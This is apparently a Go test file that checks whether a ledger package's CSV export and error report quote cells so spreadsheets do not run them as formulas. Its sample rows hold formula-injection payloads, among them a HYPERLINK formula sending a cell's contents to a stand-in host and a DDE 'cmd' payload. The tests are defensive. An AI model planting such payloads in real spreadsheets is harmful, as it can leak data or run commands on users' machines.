package ledger

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fazhi/fazhi/internal/law"
)

// hostileRow has text that a spreadsheet would run as a formula, in every kind of text field,
// beside numbers that must stay numbers.
func hostileRow() law.Values {
	return law.Values{"code": "=1+2", "n": "-5", "amt": "12.5", "on": "2024-03-05",
		"tags": []string{"@SUM(A1)", "乙某"}, "tel": "+8613800138000", "ref": "-5",
		"note": "=HYPERLINK(\"http://x/?\"&A2,\"点击\")", "kind": "甲"}
}

// A CSV export quotes every cell a spreadsheet would evaluate; numbers in numeric fields stay
// bare; reading the file back gives the values exactly (issue 9, item 4).
func TestCSVFormulaInjection(t *testing.T) {
	rows := []law.Values{hostileRow(),
		// Apostrophes the user typed survive the round trip too.
		{"code": "'=already quoted", "note": "'plain apostrophe", "tags": []string{"''+2"}}}
	var buf bytes.Buffer
	if err := WriteTo(&buf, "csv", allTypes, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), utf8BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cell := func(row int, label string) string {
		for i, h := range recs[0] {
			if h == label {
				return recs[row][i]
			}
		}
		t.Fatalf("no column %s", label)
		return ""
	}
	for _, c := range []struct{ label, want string }{
		{"编号", "'=1+2"}, {"人次", "-5"}, {"金额", "12.5"}, {"日期", "2024-03-05"},
		{"申请人", "'@SUM(A1)；乙某"}, {"电话", "'+8613800138000"}, {"复议案件", "'-5"},
		{"备注", "'=HYPERLINK(\"http://x/?\"&A2,\"点击\")"}, {"类别", "甲"},
	} {
		if got := cell(1, c.label); got != c.want {
			t.Errorf("%s written %q, want %q", c.label, got, c.want)
		}
	}
	for _, rec := range recs[1:] {
		for _, c := range rec {
			if c != "" && strings.ContainsRune(formulaStarts, rune(c[0])) && !isNumber(c) {
				t.Errorf("cell %q would run as a formula", c)
			}
		}
	}
	sheet, err := ReadFrom(&buf, "x.csv")
	if err != nil {
		t.Fatal(err)
	}
	got, errs, _ := Parse(allTypes, sheet, ParseOptions{ResolveOrg: resolveOrg})
	wantNoErrors(t, errs)
	if len(got) != 2 {
		t.Fatalf("%d rows back", len(got))
	}
	wantValues(t, got[0].Values, rows[0])
	wantValues(t, got[1].Values, rows[1])
}

// The CSV error report quotes the cells it carries back too.
func TestErrorReportQuotesFormulas(t *testing.T) {
	sheet := &Sheet{Headers: []string{"编号", "人次"}, Rows: []Line{{Number: 2, Cells: []string{"=cmd|' /C calc'!A0", "-5"}}}}
	path := filepath.Join(t.TempDir(), "r.csv")
	if err := ErrorReport(path, sheet, []RowError{{Line: 2, Column: "编号", Value: "x", Reason: "有误"}}); err != nil {
		t.Fatal(err)
	}
	back := mustRead(t, path)
	if c := back.Rows[0].Cells; c[0] != "=cmd|' /C calc'!A0" || c[1] != "-5" {
		t.Errorf("report read back as %q", c)
	}
	raw := mustReadFile(t, path)
	if !strings.Contains(raw, "'=cmd|") || strings.Contains(raw, ",'-5") {
		t.Errorf("report cells not quoted as they should be:\n%s", raw)
	}
}
